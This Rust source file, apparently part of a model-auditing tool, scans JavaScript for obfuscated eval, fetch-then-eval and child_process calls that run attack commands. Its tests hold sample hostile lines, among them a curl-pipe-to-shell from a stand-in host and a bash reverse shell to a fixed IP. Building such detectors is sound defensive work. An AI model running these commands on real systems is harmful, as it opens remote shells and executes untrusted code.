//! JavaScript: a tokenizer that leaves comments out, and the few sequences of tokens that only attacks have.
//!
//! Models that run in a browser or in Node travel with JavaScript (transformers.js, tfjs). What is looked for: a process that is started
//! with an attack's command, and text that is run after it was decoded or downloaded. Libraries do neither in this form: bundlers'
//! `eval` of a module's text and `new Function("return this")` are texts that stand there.

use modelaudit_command_lines::{POWERSHELL, REVERSE_SHELLS, SHELL, worst};
use modelaudit_plugin::{Artifact, Finding, Severity, Sink, clip, escape, quote};
use modelaudit_rules::programs::S517;

/// Longest file that is read: bundles have some megabytes.
const LONGEST: u64 = 32 << 20;
/// Findings of one file.
const MOST: usize = 20;

/// A token: a word, a text, or one character of anything else.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Token<'a> {
    Word(&'a str),
    Text(&'a str),
    Mark(u8),
}

/// Functions of `child_process`. Source: Node's reference.
const STARTERS: &[&str] = &["exec", "execSync", "spawn", "spawnSync", "execFile", "execFileSync", "fork"];
/// What decodes a text: names that stand between `eval(` and the end of its argument.
const DECODERS: &[&str] = &["atob", "unescape", "fromCharCode", "decodeURIComponent"];

/// Scans a JavaScript file.
pub(crate) fn scan(artifact: &dyn Artifact, sink: &mut dyn Sink) -> Result<(), String> {
    let bytes = crate::text(artifact, LONGEST)?;
    let text = String::from_utf8_lossy(&bytes);
    let tokens = tokens(&text);
    let mut found = 0;
    let starts_processes = tokens.iter().any(|(_, t)| matches!(t, Token::Text("child_process" | "node:child_process")));
    for (index, (offset, token)) in tokens.iter().enumerate() {
        let Token::Word(word) = token else { continue };
        let rest = tokens.get(index + 1..).unwrap_or_default();
        let judged = match *word {
            "eval" | "Function" | "setTimeout" if is(rest, 0, b'(') => runs_hidden(word, argument(rest)),
            name if starts_processes && STARTERS.contains(&name) && is(rest, 0, b'(') => starts(argument(rest)),
            "then" if is(rest, 0, b'(') && matches!(rest.get(1), Some((_, Token::Word("eval")))) => {
                Some("runs what it fetches as code".to_owned())
            }
            _ => None,
        };
        let Some(what) = judged else { continue };
        found += 1;
        if found > MOST {
            break;
        }
        // Offsets of a text that is not UTF-8 are not those of the file.
        let at = (*offset).min(bytes.len());
        let line = text.get(..*offset).unwrap_or_default().matches('\n').count() + 1;
        let message = clip(&escape(&format!("line {line}: {word}() {what}")), 600);
        let severity = if artifact.lineage().is_empty() { Severity::Warning } else { S517.severity };
        let length = word.len().min(bytes.len() - at);
        sink.finding(Finding::new(&S517, message).severity(severity).at(at as u64, length as u64));
    }
    Ok(())
}

fn is(tokens: &[(usize, Token<'_>)], index: usize, mark: u8) -> bool {
    matches!(tokens.get(index), Some((_, Token::Mark(found))) if *found == mark)
}

/// The tokens between an opening parenthesis and its closing one, at most some hundreds.
fn argument<'t, 'a>(tokens: &'t [(usize, Token<'a>)]) -> &'t [(usize, Token<'a>)] {
    let mut depth = 0usize;
    for (index, (_, token)) in tokens.iter().take(400).enumerate() {
        match token {
            Token::Mark(b'(') => depth += 1,
            Token::Mark(b')') => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return tokens.get(1..index).unwrap_or_default();
                }
            }
            _ => {}
        }
    }
    tokens.get(1..tokens.len().min(400)).unwrap_or_default()
}

/// `eval(atob("..."))`, `new Function(Buffer.from("...", "base64").toString())`: the argument is a decoder's result.
fn runs_hidden(word: &str, argument: &[(usize, Token<'_>)]) -> Option<String> {
    let words: Vec<&str> = argument
        .iter()
        .filter_map(|(_, token)| match token {
            Token::Word(word) => Some(*word),
            _ => None,
        })
        .collect();
    let first = *words.first()?;
    let buffer = words.starts_with(&["Buffer", "from"])
        && argument.iter().any(|(_, token)| matches!(token, Token::Text("base64" | "hex")));
    let decoder = match first {
        "window" | "globalThis" | "self" | "String" => words.get(1).copied().unwrap_or(first),
        first => first,
    };
    // A decoder that is only named decodes nothing.
    let called = argument
        .windows(2)
        .any(|pair| matches!(pair, [(_, Token::Word(word)), (_, Token::Mark(b'('))] if *word == decoder || buffer));
    // setTimeout takes functions, too, in which decoders are ordinary.
    let is_function = words.contains(&"function") || argument.iter().any(|(_, token)| *token == Token::Mark(b'>'));
    let decodes = DECODERS.contains(&decoder) && decoder != "decodeURIComponent"
        || decoder == "decodeURIComponent" && words.contains(&"atob");
    ((decodes || buffer) && called && !(is_function && word == "setTimeout"))
        .then(|| "runs text that was decoded first".to_owned())
}

/// A command that a table knows as an attack.
fn starts(argument: &[(usize, Token<'_>)]) -> Option<String> {
    let line: Vec<&str> = argument
        .iter()
        .filter_map(|(_, token)| match token {
            Token::Text(text) => Some(*text),
            _ => None,
        })
        .collect();
    let line = line.join(" ");
    let found = worst(&line, &[REVERSE_SHELLS, SHELL, POWERSHELL])?;
    Some(format!("runs a command that {}: {}", found.command.what, quote(found.line.as_bytes())))
}

/// Words, texts and marks, without comments. A regular expression is not told from a division: its quotes may open a text, which
/// ends at the line's end at the latest.
fn tokens(text: &str) -> Vec<(usize, Token<'_>)> {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut at = 0;
    while let Some(&byte) = bytes.get(at) {
        let start = at;
        match byte {
            b'/' if bytes.get(at + 1) == Some(&b'/') => {
                at = text.get(at..).and_then(|rest| rest.find('\n')).map_or(bytes.len(), |end| at + end);
            }
            b'/' if bytes.get(at + 1) == Some(&b'*') => {
                at = text.get(at + 2..).and_then(|rest| rest.find("*/")).map_or(bytes.len(), |end| at + 2 + end + 2);
            }
            b'"' | b'\'' | b'`' => {
                at += 1;
                while let Some(&inner) = bytes.get(at) {
                    if inner == byte || inner == b'\n' && byte != b'`' {
                        break;
                    }
                    at += if inner == b'\\' { 2 } else { 1 };
                }
                let end = at.min(bytes.len());
                out.push((start, Token::Text(text.get(start + 1..end).unwrap_or_default())));
                at = end + 1;
            }
            b if b.is_ascii_alphabetic() || b == b'_' || b == b'$' => {
                while bytes.get(at).is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_' || *b == b'$') {
                    at += 1;
                }
                out.push((start, Token::Word(text.get(start..at).unwrap_or_default())));
            }
            b if b.is_ascii_punctuation() => {
                out.push((start, Token::Mark(byte)));
                at += 1;
            }
            _ => at += 1,
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use modelaudit_plugin::testing::{Memory, run};

    fn findings(source: &str) -> usize {
        run(&Memory::new("a.js", source.as_bytes()), |a, s| super::scan(a, s)).0.findings.len()
    }

    #[test]
    fn payloads_are_told_from_libraries() {
        for source in [
            "eval(atob('YWxlcnQoMSk='))",
            "new Function(Buffer.from(\"6964\", \"hex\").toString())()",
            "const {exec} = require('child_process');\nexec('curl http://evil.example/x | sh');",
            "import * as cp from 'node:child_process';\ncp.execSync(`bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`)",
            "fetch(u).then(r => r.text()).then(eval)",
            "eval(String.fromCharCode(97, 108))",
        ] {
            assert_eq!(findings(source), 1, "{source}");
        }
        for source in [
            "// eval(atob('x'))\n/* eval(atob('x')) */",
            "const s = \"eval(atob('x'))\";",
            "var g = new Function('return this')();",
            "const {spawn} = require('child_process');\nspawn('git', ['status']);",
            "model.eval(atob)",
            "setTimeout(function () { run(atob(x)); }, 10);",
            "const x = atob(data); JSON.parse(x)",
            "'unterminated\n`also",
        ] {
            assert_eq!(findings(source), 0, "{source}");
        }
    }
}
